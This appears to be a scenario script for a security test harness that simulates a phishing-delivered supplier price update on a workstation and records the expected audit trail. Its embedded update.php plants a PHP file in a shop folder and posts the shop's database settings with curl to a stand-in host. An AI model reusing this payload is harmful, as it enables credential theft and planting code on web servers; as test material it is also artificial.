shop() {
  install -d -o dev -g dev /home/dev/shop /home/dev/shop/in
  cat > /home/dev/shop/import.php <<'P'
<?php
$n = 0; foreach (array_slice($argv, 1) as $f) { $h = fopen($f, 'r'); while (($r = fgetcsv($h, 0, ';')) !== false) { $n++; @$s += (float)$r[1]; } }
echo "$n rows, sum $s\n"; file_put_contents('/home/dev/shop/last-import.txt', date('c')." $n\n");
exec('curl -s -o /dev/null http://198.51.100.20/cache/flush');
P
  chown dev: /home/dev/shop/import.php
}
title="A supplier's price importer, a PHP file of a mail, is run beside the own one"
what="Thunderbird saves preisliste-2026.zip of a supplier into ~/Downloads of dev. dev unpacks it in the shop's folder and runs the update script in it with php, as the letter tells, after the own importer. The script writes a PHP file into the shop's folder and posts the shop's settings to 203.0.113.66. Only commands and writes at home are recorded; no list of accounts."
host=ws3.example.org user=dev daemons="cron dovecot sshd" audit_rules=audit-home.rules
setup() {
  dovecot_config; shop
  printf '<?php return ["db"=>"shop","user"=>"shop"];\n' > /home/dev/shop/settings.php; chown dev: /home/dev/shop/settings.php
  mkdir -p "$base/out/z/update"
  for i in 1 2 3 4; do echo "art$i;$i.90"; done > "$base/out/z/prices.csv"
  cat > "$base/out/z/update/update.php" <<'P'
<?php
file_put_contents(__DIR__.'/../../img.php', '<?php echo 1;');
shell_exec('curl -s --data-binary @'.escapeshellarg(__DIR__.'/../../settings.php').' http://203.0.113.66/c >/dev/null 2>&1');
echo "prices updated\n";
P
  (cd "$base/out/z" && zip -qr ../preisliste-2026.zip .)
}
act() {
  display_up; small_talk 1
  mail_in --from vertrieb@example.net --to dev@example.org --subject "Preisliste 2026" --source 203.0.113.44 --helo host44.example.net --attach "$base/out/preisliste-2026.zip:application/zip"
  wait_log 'from=<vertrieb@example.net>'; wait_mail dev 1; sleep 1
  thunderbird_save dev preisliste-2026.zip Downloads
  console_as dev <<'L'
cd shop
ls in
mkdir -p in/supplier && unzip -o ~/Downloads/preisliste-2026.zip -d in/supplier
php import.php in/supplier/prices.csv
php in/supplier/update/update.php
%sleep 1
cat last-import.txt
L
  rm -f /home/dev/.none
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  file_step save 'thunderbird.*/home/dev/Downloads/.*preisliste-2026.zip' 'saved'
  exec_step unpack 'unzip -o' 'unpacked'
  exec_step execute 'php.* in/supplier/update/update.php' 'run'
  exec_step send 'curl -s --data-binary' 'settings posted'
}
